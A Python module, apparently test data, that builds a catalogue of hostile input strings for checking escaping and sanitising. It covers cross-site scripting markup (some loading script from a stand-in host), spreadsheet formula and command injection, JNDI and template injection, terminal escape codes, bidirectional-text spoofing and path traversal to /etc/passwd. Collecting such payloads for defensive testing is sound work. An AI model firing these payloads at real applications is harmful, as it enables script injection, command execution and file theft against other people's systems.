"""Texts that mean harm where somebody reads them as more than text."""

# ruff: noqa: E501
from __future__ import annotations

from itertools import product

_MARKUP = (
    "<script>alert(1)</script>", "<ScRiPt src=//x.example/a.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href='javascript:alert(1)'>x",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data='data:text/html,x'>", "<embed src='//x.example'>",
    "<base href='//x.example/'>", "<meta http-equiv=refresh content='0;url=//x.example'>", "<link rel=stylesheet href=//x.example>",
    "<form action=//x.example><input name=a autofocus onfocus=alert(1)>", "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>", "<a href=vbscript:x>x</a>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<template><script>x</script></template>", "<!--><script>x</script>-->",
    "</title><script>x</script>", "</style><script>x</script>", "</textarea><script>x</script>", "]]><script>x</script>",
    "'\"><script>x</script>", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "` onload=alert(1)",
    "<x onclick=alert(1)>", "<table background=javascript:x>", "<style>*{background:url(//x.example)}</style>",
    "<p style=behavior:url(x)>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;x&#60;/script&#62;",
    "&amp;lt;script&amp;gt;", "<scr<script>ipt>x</scr</script>ipt>", "<\x00script>x</script>", "<script\x0c>x</script\x0c>",
    "\ufeff<script>x</script>", "＜script＞alert(1)＜/script＞", "<noscript><p title='</noscript><img src=x onerror=x>'>",
    "<svg><style><img src=x onerror=x></style></svg>", "<input type=image src=x onerror=x>", "<body onload=x>",
    "<q lang=x onclick=y>", "</q></li></ul></main><script>x</script>", "<frameset onload=x>", "<portal src=//x>",
)  # fmt: skip
_URLS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:x",
    "data:text/html,<script>x</script>", "vbscript:msgbox(1)", "file:///etc/passwd", "//x.example/a", "http://x.example/a?b=c&d",
    "https://x.example/\"onclick=x", "\\\\x.example\\share", "mailto:x@x.example?subject=y", "tel:+1", "blob:x", "ftp://x.example",
    "ms-excel:ofe|u|//x.example", "javascript&colon;alert(1)", "jar:x!/y", "view-source:x",
)  # fmt: skip
_CSS = (
    "expression(alert(1))", "url(javascript:x)", "@import '//x.example';", "}*{display:none}", "/*</style>*/", "\\3c script\\3e",
    "-moz-binding:url(x)", "color:red;background:url(//x)",
)  # fmt: skip
_CALLS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","y")',
    "SUM(A1:A9)",
    'IMPORTXML("//x","y")',
    'WEBSERVICE("//x")',
)
_PREFIXES = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\ufeff=", "\u200b=", "'=", "\"=", ";=", ",=", "|=",
)  # fmt: skip
_FORMULAS = tuple(prefix + call for prefix, call in product(_PREFIXES, _CALLS))
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://x.example\x1b\\link\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x9b31mred",
    "\x9d0;t\x9c", "\x1bP1$r\x1b\\", "\x08\x08\x08over", "line\rover", "bell\x07", "\x1b[?1049h", "\x1b]52;c;eA==\x07", "\x00nul",
    "\x7fdel", "\x85next", "\u2028line\u2029para", "\x0e\x0f", "\x1b(0lqk",
)  # fmt: skip
_DIRECTION = (
    "\u202efdp.exe", "\u202dleft", "\u2066isolate\u2069", "\u2067x", "\u2068y", "\u200fmark", "\u061calm", "\u202a\u202b\u202c",
    "\u200bzero\u200dwidth\u2060", "\u00adsoft", "\U000e0041tag\U000e0042", "\ufff9a\ufffab\ufffb", "Z\u0351a\u0349l\u034dg\u0321o",
)  # fmt: skip
_TEMPLATES = (
    "{{ 7*7 }}", "{% raw %}", "{{ ''.__class__.__mro__ }}", "{{ config }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{#x#}", "{title} {0} {x!r}",
    "%s %(x)s %n", "{{ self._TemplateReference__context }}", "{% include '/etc/passwd' %}", "$(touch x)", "`touch x`", "${jndi:ldap://x}",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "x/../../y", "..", ".", "~/x", "CON", "a\x00b", "%2e%2e%2fx", "....//x",
    "a/b/c", "-rf", "x" * 300, ".hidden", "x\ny", "*?<>|\"",
)  # fmt: skip
_SIZES = (
    "",
    " ",
    "\n",
    "A" * 20_000,
    "é" * 5_000,
    "a b " * 4_000,
    "\ud800",
    "x\udfffy",
    "\uffff\ufdd0",
    "𝔸" * 3_000,
    "<" * 5_000,
    "&" * 3_000,
)

PAYLOADS = (*_MARKUP, *_URLS, *_CSS, *_FORMULAS, *_TERMINAL, *_DIRECTION, *_TEMPLATES, *_PATHS, *_SIZES)
